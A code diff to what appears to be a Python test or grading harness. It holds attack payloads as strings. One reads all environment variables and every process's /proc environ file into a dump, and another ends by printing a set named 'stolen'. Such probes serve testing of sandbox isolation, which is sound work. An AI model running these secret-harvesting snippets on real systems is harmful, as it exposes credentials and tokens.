@@ -13,8 +13,6 @@ beside it keep their marks (`FULL_BESIDE`), while an attack inside an answer cos
 """
 from __future__ import annotations
 
-import copy
-import hashlib
 import json
 import os
 import subprocess
@@ -197,10 +195,10 @@ for root in sorted(places, key=len)[:200]:
                             pass
 print("found", sorted(stolen))
 """
-ENVIRON = f"""
+ENVIRON = """
 import glob, os
-dump = " ".join(f"{{k}}={{v}}" for k, v in os.environ.items())
-for path in glob.glob("/proc/*/environ") + ["/proc/1/environ", f"/proc/{{os.getppid()}}/environ"]:
+dump = " ".join(f"{k}={v}" for k, v in os.environ.items())
+for path in glob.glob("/proc/*/environ") + ["/proc/1/environ", f"/proc/{os.getppid()}/environ"]:
     try:
         dump += open(path, "rb").read().decode(errors="ignore")
     except OSError:
